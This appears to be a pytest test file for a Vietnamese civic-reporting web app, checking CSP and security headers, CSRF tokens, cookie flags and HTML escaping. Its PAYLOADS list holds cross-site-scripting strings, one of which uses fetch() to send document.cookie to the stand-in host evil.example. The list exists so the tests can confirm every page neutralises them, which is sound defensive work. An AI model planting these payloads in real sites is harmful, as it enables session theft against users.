"""Mechanisms every page inherits: security headers and a strict CSP, CSRF on form posts, safe
cookies, escaping of everything residents and staff type, and API docs that work offline."""

from __future__ import annotations

import re
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest_asyncio
from fastapi import Form, Request
from fastapi.responses import HTMLResponse
from fastapi.routing import iter_route_contexts

import congdan
from congdan.app import create_app
from congdan.config import Settings
from congdan.security import cookies
from congdan.security.csrf import COOKIE
from congdan.templating import templates
from tests.conftest import Actors, report_body

PAYLOADS = {
    "description": "<script>alert('mô tả')</script><img src=x onerror=alert(1)>",
    "address": '"><svg onload=alert(2)>123 Lê Lợi',
    "contact_name": "<iframe src=javascript:alert(3)></iframe>",
    "reply": "<b onmouseover=alert(4)>Đã xử lý</b><script>document.cookie</script>",
    "note": "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
    "transition_note": '<a href="javascript:alert(5)">xem</a>',
    "rating_comment": "<style>body{display:none}</style>{{ 7*7 }}",
    "announcement_title": "<script>alert('tin')</script> Cúp nước",
    "announcement_body": "<img src=x onmouseover=alert(6)> Khu phố 3 cúp nước từ 8 giờ",
}
DANGEROUS = re.compile(r"<(script|img|svg|iframe|b|a|style)[\s>]", re.IGNORECASE)


def _csp(r: httpx.Response) -> dict[str, str]:
    parts = [p.strip() for p in r.headers["content-security-policy"].split(";")]
    return {p.split(" ", 1)[0]: p.split(" ", 1)[1] if " " in p else "" for p in parts}


async def test_headers_on_every_kind_of_response(client: httpx.AsyncClient) -> None:
    for path in ("/", "/api/v1/categories", "/api/v1/nothing-here", "/docs", "/openapi.json"):
        r = await client.get(path)
        assert r.status_code < 500, path
        csp = _csp(r)
        assert csp["default-src"] == "'none'"
        assert "'unsafe-inline'" not in csp["script-src"] and "'unsafe-eval'" not in csp["script-src"]
        assert "'unsafe-inline'" not in csp["style-src"]
        assert csp["frame-ancestors"] == "'none'" and csp["object-src"] == "'none'"
        assert csp["base-uri"] == "'none'" and csp["form-action"] == "'self'"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["x-frame-options"] == "DENY"
        assert r.headers["referrer-policy"] == "same-origin"
        assert "microphone=()" in r.headers["permissions-policy"]
        assert "strict-transport-security" not in r.headers  # plain http: HSTS means nothing here


async def test_hsts_when_served_over_https(app: Any) -> None:
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="https://test") as c:
        r = await c.get("/api/v1/categories")
    assert r.headers["strict-transport-security"].startswith("max-age=")


async def test_nonce_changes_per_response_and_covers_the_inline_style(client: httpx.AsyncClient) -> None:
    first, second = await client.get("/"), await client.get("/")
    nonces = [re.search(r"'nonce-([^']+)'", _csp(r)["style-src"]).group(1) for r in (first, second)]  # type: ignore[union-attr]
    assert nonces[0] != nonces[1]
    # The page's own script and style blocks carry the nonce of their response (the same for both).
    assert f"'nonce-{nonces[0]}'" in _csp(first)["script-src"]
    assert f'nonce="{nonces[0]}"' in first.text


NOT_PAGES = ("/openapi.json", "/healthz", "/readyz")


def _html_get_routes(app: Any) -> list[Any]:
    """Every GET route that may answer with a page (new pages are picked up as they land)."""
    return [
        r
        for r in iter_route_contexts(app.routes)
        if r.methods
        and "GET" in r.methods
        and r.path not in NOT_PAGES
        and not r.path.startswith(("/api/", "/media/", "/static/", "/open311/"))
    ]


async def test_pages_have_no_inline_script_and_no_foreign_assets(client: httpx.AsyncClient, app: Any) -> None:
    routes = [r for r in _html_get_routes(app) if "{" not in r.path]
    assert {r.path for r in routes} >= {"/", "/docs"}
    for route in routes:
        # A page behind a sign-in sends the visitor to the sign-in page, which is checked instead.
        r = await client.get(route.path, follow_redirects=True)
        assert r.status_code == 200, route.path
        assert all(step.headers["location"].startswith("/") for step in r.history), route.path
        if not r.headers["content-type"].startswith("text/html"):
            continue  # feeds and documents link wherever their format says, they are not pages
        for tag in re.findall(r"<script\b[^>]*>", r.text):
            src = re.search(r'src="([^"]+)"', tag)
            assert src is not None, (route.path, tag)
            assert src.group(1).startswith("/"), (route.path, tag)
        assert not re.search(r"""(src|href)=["']?(https?:)?//""", r.text), route.path
        assert not re.search(r"\son[a-z]+=", r.text), route.path


async def test_swagger_ui_is_served_locally(client: httpx.AsyncClient) -> None:
    page = await client.get("/docs")
    assert page.status_code == 200
    assets = re.findall(r'(?:src|href)="(/static/[^"]+)"', page.text)
    assert "/static/swagger-ui/swagger-ui-bundle.js" in assets and "/static/docs.js" in assets
    for asset in assets:
        r = await client.get(asset)
        assert r.status_code == 200 and len(r.content) > 100, asset
    init = (await client.get("/static/docs.js")).text
    assert "/openapi.json" in init


def test_one_template_environment_and_it_always_autoescapes() -> None:
    # Any other Jinja2 environment would miss autoescaping, the CSRF field and the CSP nonce.
    root = Path(congdan.__file__).parent
    others = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "templating.py"
        and re.search(r"Jinja2Templates\(|jinja2\.Environment\(|\bEnvironment\(", path.read_text())
    ]
    assert others == []
    assert templates.env.autoescape is True
    assert templates.env.from_string("{{ v }}").render(v="<b>") == "&lt;b&gt;"


# ---- CSRF --------------------------------------------------------------------------------------

FORM_PAGE = """<form method="post" action="/form-test">{{ csrf_field() }}<input name="text"></form>"""


@pytest_asyncio.fixture
async def form_app(settings: Settings) -> AsyncIterator[Any]:
    """The real app with one form page, as later issues add them."""
    application = create_app(settings, run_worker=False)

    @application.get("/form-test", response_class=HTMLResponse)
    async def form_page(request: Request) -> HTMLResponse:
        html = templates.env.from_string(FORM_PAGE).render(request=request)
        return HTMLResponse(html)

    @application.post("/form-test", response_class=HTMLResponse)
    async def form_post(text: str = Form("")) -> HTMLResponse:
        return HTMLResponse(f"ok {len(text)}")

    async with application.router.lifespan_context(application):
        yield application


def _client(app: Any, base_url: str = "http://test") -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=base_url)


def _token(html: str) -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert match is not None, html
    return match.group(1)


async def test_form_post_with_token_is_accepted(form_app: Any) -> None:
    async with _client(form_app) as c:
        page = await c.get("/form-test")
        set_cookie = page.headers["set-cookie"]
        assert "httponly" in set_cookie.lower() and "samesite=lax" in set_cookie.lower()
        token = _token(page.text)
        r = await c.post("/form-test", data={"csrf_token": token, "text": "xin chào"})
        assert r.status_code == 200 and r.text == "ok 8"
        # HTMX sends the token in a header; multipart forms carry it as a field.
        r = await c.post("/form-test", data={"text": "abc"}, headers={"X-CSRF-Token": token})
        assert r.status_code == 200
        r = await c.post("/form-test", data={"csrf_token": token, "text": "a"}, files={"f": ("x", b"1")})
        assert r.status_code == 200
        # The same browser keeps its token across pages.
        assert _token((await c.get("/form-test")).text).split(".")[0] == token.split(".")[0]


def _tampered(token: str) -> str:
    """The token with its signature's last two hex digits changed, whatever they were."""
    last = token[-2:]
    return token[:-2] + ("00" if last != "00" else "ff")


async def test_form_post_without_valid_token_is_refused_in_vietnamese(form_app: Any) -> None:
    async with _client(form_app) as c:
        token = _token((await c.get("/form-test")).text)
        html = {"Accept": "text/html"}
        for data, headers in (
            ({"text": "x"}, html),  # no token
            ({"csrf_token": _tampered(token), "text": "x"}, html),
            ({"csrf_token": "a.b", "text": "x"}, html),
        ):
            r = await c.post("/form-test", data=data, headers=headers)
            assert r.status_code == 403
            assert "Biểu mẫu đã hết hạn" in r.text and "tải lại trang" in r.text
        r = await c.post("/form-test", data={"text": "x"}, headers={"Accept-Language": "en"})
        assert r.status_code == 403 and r.headers["content-type"] == "application/problem+json"
        assert "Reload the page" in r.json()["detail"]
    async with _client(form_app) as other:
        # Another browser (no cookie, or its own) cannot replay the token.
        r = await other.post("/form-test", data={"csrf_token": token, "text": "x"})
        assert r.status_code == 403
        await other.get("/form-test")
        r = await other.post("/form-test", data={"csrf_token": token, "text": "x"})
        assert r.status_code == 403


async def test_token_is_tied_to_the_session(form_app: Any, settings: Settings) -> None:
    async with _client(form_app) as c:
        c.cookies.set(settings.session_cookie_name, "session-one")
        token = _token((await c.get("/form-test")).text)
        assert (await c.post("/form-test", data={"csrf_token": token})).status_code == 200
        c.cookies.set(settings.session_cookie_name, "session-two")
        assert (await c.post("/form-test", data={"csrf_token": token})).status_code == 403
        fresh = _token((await c.get("/form-test")).text)
        assert (await c.post("/form-test", data={"csrf_token": fresh})).status_code == 200


async def test_json_api_is_not_subject_to_csrf(client: httpx.AsyncClient) -> None:
    # The API authenticates with headers, never cookies; a cross-site form cannot use it as anyone.
    r = await client.post("/api/v1/reports", json=report_body())
    assert r.status_code == 201


async def test_csrf_cookie_is_secure_with_host_prefix_over_https(form_app: Any) -> None:
    async with _client(form_app, "https://test") as c:
        page = await c.get("/form-test")
        set_cookie = page.headers["set-cookie"]
        assert set_cookie.startswith(f"__Host-{COOKIE}=")
        assert "secure" in set_cookie.lower() and "httponly" in set_cookie.lower()
        assert "path=/" in set_cookie.lower()
        r = await c.post("/form-test", data={"csrf_token": _token(page.text)})
        assert r.status_code == 200


def test_cookie_helper_names_and_flags() -> None:
    from starlette.requests import Request as StarletteRequest
    from starlette.responses import Response

    for scheme, secure in (("https", True), ("http", False)):
        conn = StarletteRequest(
            {"type": "http", "scheme": scheme, "server": ("h", 1), "path": "/", "headers": []}
        )
        response = Response()
        cookies.set_cookie(response, conn, "sid", "v", max_age=60)
        header = response.headers["set-cookie"].lower()
        assert header.startswith("__host-sid=" if secure else "sid=")
        assert ("secure" in header) is secure
        assert "httponly" in header and "samesite=lax" in header


# ---- escaping ----------------------------------------------------------------------------------


@pytest_asyncio.fixture
async def hostile_report(client: httpx.AsyncClient, actors: Actors) -> dict[str, Any]:
    resident = await actors.resident()
    officer = await actors.staff("agency_officer", "so_xay_dung")
    coordinator = await actors.staff("coordinator")
    body = report_body(
        description=PAYLOADS["description"],
        address=PAYLOADS["address"],
        contact={"name": PAYLOADS["contact_name"]},
    )
    r = await client.post("/api/v1/reports", json=body, headers=resident)
    assert r.status_code == 201, r.text
    report = r.json()
    rid = report["id"]
    steps = [
        ("transitions", {"to": "in_progress", "note": PAYLOADS["transition_note"]}),
        ("notes", {"note": PAYLOADS["note"]}),
        ("replies", {"message": PAYLOADS["reply"]}),
        ("transitions", {"to": "resolved", "note": "xong"}),
    ]
    for path, payload in steps:
        r = await client.post(f"/api/v1/reports/{rid}/{path}", json=payload, headers=officer)
        assert r.status_code in (200, 201), r.text
    r = await client.post(
        f"/api/v1/reports/{rid}/rating",
        json={"score": 1, "comment": PAYLOADS["rating_comment"]},
        headers=resident,
    )
    assert r.status_code == 200, r.text
    return {"report": report, "resident": resident, "officer": officer, "coordinator": coordinator}


async def test_api_returns_payloads_as_data_unchanged(
    client: httpx.AsyncClient, hostile_report: dict[str, Any]
) -> None:
    rid = hostile_report["report"]["id"]
    officer = hostile_report["officer"]
    report = (await client.get(f"/api/v1/reports/{rid}", headers=officer)).json()
    assert report["description"] == PAYLOADS["description"]
    assert report["address"] == PAYLOADS["address"]
    assert report["contact"]["name"] == PAYLOADS["contact_name"]
    assert report["rating_comment"] == PAYLOADS["rating_comment"]
    notes = {
        e["note"]
        for e in (await client.get(f"/api/v1/reports/{rid}/events", headers=officer)).json()["items"]
    }
    assert {PAYLOADS["note"], PAYLOADS["reply"], PAYLOADS["transition_note"]} <= notes


async def test_every_page_escapes_what_people_typed(
    client: httpx.AsyncClient, app: Any, hostile_report: dict[str, Any]
) -> None:
    report = hostile_report["report"]
    news = await client.post(
        "/api/v1/announcements",
        json={"title": PAYLOADS["announcement_title"], "body": PAYLOADS["announcement_body"]},
        headers=hostile_report["coordinator"],
    )
    assert news.status_code == 201, news.text
    fill = {
        "report_id": report["id"],
        "code": report["tracking_code"],
        "announcement_id": news.json()["id"],
        # Administrators' pages: the viewers here are refused before anything is looked up.
        "template_id": str(uuid.uuid4()),
        "account_id": str(uuid.uuid4()),
        "name": "to-khai-khai-sinh.pdf",
        "number": 1,
    }
    viewers = {"public": {}, **{k: hostile_report[k] for k in ("resident", "officer", "coordinator")}}
    pages = 0
    for route in _html_get_routes(app):
        params = re.findall(r"{(\w+)(?::\w+)?}", route.path)
        unknown = [p for p in params if p not in fill]
        assert not unknown, f"teach this test how to fill {unknown} in {route.path}"
        path = re.sub(r"{(\w+)(?::\w+)?}", lambda m: str(fill[m.group(1)]), route.path)
        for who, headers in viewers.items():
            r = await client.get(path, headers=headers)
            assert r.status_code < 500, (path, who)
            pages += 1
            for payload in PAYLOADS.values():
                assert payload not in r.text, (path, who, payload)
            for tag in DANGEROUS.findall(r.text):
                assert tag.lower() in {"script", "style", "a", "b"}, (path, who, tag)
            assert "onerror=" not in r.text.replace("onerror=alert(1)&gt;", "")
    assert pages >= 8
    # The tracking page shows the report: the description is there, as text.
    page = (await client.get(f"/theo-doi/{report['tracking_code']}")).text
    assert "&lt;script&gt;alert(&#39;mô tả&#39;)&lt;/script&gt;" in page


async def test_routing_answers_before_csrf(client: httpx.AsyncClient) -> None:
    # Unknown paths and methods say so (404/405 with Allow), rather than a CSRF refusal.
    r = await client.post("/no-such-page", data={"a": "b"})
    assert r.status_code == 404
    r = await client.post("/", data={"a": "b"})
    assert r.status_code == 405 and r.headers["allow"] == "GET, HEAD"
    r = await client.delete("/api/v1/reports")
    assert r.status_code == 405 and r.headers["allow"] == "GET, HEAD, POST"


async def test_nul_characters_are_refused_on_every_database(client: httpx.AsyncClient) -> None:
    # Found by the fuzzer: PostgreSQL cannot store U+0000 and the query used to fail with a 500.
    r = await client.get("/api/v1/agencies", params={"kind": "\x00"})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "kind"
    r = await client.get("/api/v1/reports/by-code/AB%00CD")
    assert r.status_code == 422
    r = await client.post("/api/v1/reports", json=report_body(description="Ổ gà\x00"))
    assert r.status_code == 422 and "NUL" in r.json()["detail"]
    r = await client.post("/api/v1/reports", json=report_body(description="đường dẫn C:\\u0000"))
    assert r.status_code == 201  # a backslash the resident typed, not a NUL
